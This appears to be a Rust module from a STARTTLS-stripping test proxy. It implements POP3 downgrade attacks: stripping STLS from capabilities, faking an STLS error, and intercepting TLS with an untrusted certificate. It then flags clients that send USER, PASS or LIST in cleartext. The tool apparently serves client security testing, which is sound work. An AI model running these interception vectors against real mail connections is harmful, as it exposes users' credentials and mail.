// SPDX-License-Identifier: Apache-2.0

//! POP3 attack vectors (spec.md section 4.3, "POP3"). Responses lead with
//! `+OK` or `-ERR`; the STARTTLS-class command is `STLS` (RFC 2595).

use std::sync::Arc;

use async_trait::async_trait;

use super::{contains_ci, split_lines, starts_with_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum Pop3Vector {
    StripFromCapabilities,
    StripWithError,
    UntrustedIntercept,
}

const SENTINELS: &[&str] = &["list", "user ", "pass "];

fn mark_if_sentinel(ctx: &MangleCtx<'_>, data: &[u8]) {
    if SENTINELS.iter().any(|s| contains_ci(data, s)) {
        ctx.mark_vulnerable();
    }
}

#[async_trait]
impl AttackVector for Pop3Vector {
    fn protocol(&self) -> Protocol {
        Protocol::Pop3
    }

    fn name(&self) -> &'static str {
        match self {
            Pop3Vector::StripFromCapabilities => "StripFromCapabilities",
            Pop3Vector::StripWithError => "StripWithError",
            Pop3Vector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            Pop3Vector::StripFromCapabilities => {
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            Pop3Vector::StripWithError => {
                if starts_with_ci(data, "stls") {
                    ctx.send_to_client(b"-ERR unknown command\r\n").await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            Pop3Vector::UntrustedIntercept => {
                if starts_with_ci(data, "stls") {
                    ctx.send_to_client(b"+OK Begin TLS negotiation\r\n").await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    if !contains_ci(&resp, "+ok") {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded STLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        _ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            Pop3Vector::StripFromCapabilities => {
                if starts_with_ci(data, "+ok capability") {
                    let kept: Vec<&[u8]> = split_lines(data)
                        .into_iter()
                        .filter(|l| !contains_ci(l, "stls"))
                        .collect();
                    return Ok(Some(kept.concat()));
                }
                Ok(Some(data.to_vec()))
            }
            _ => Ok(Some(data.to_vec())),
        }
    }
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(Pop3Vector::StripFromCapabilities),
        Arc::new(Pop3Vector::StripWithError),
        Arc::new(Pop3Vector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn capability_response_drops_stls_line() {
        let data = b"+OK Capability list follows\r\nTOP\r\nSTLS\r\nUSER\r\n.\r\n";
        let kept: Vec<&[u8]> = split_lines(data)
            .into_iter()
            .filter(|l| !contains_ci(l, "stls"))
            .collect();
        let out = kept.concat();
        assert!(!contains_ci(&out, "stls"));
        assert!(contains_ci(&out, "top"));
    }
}
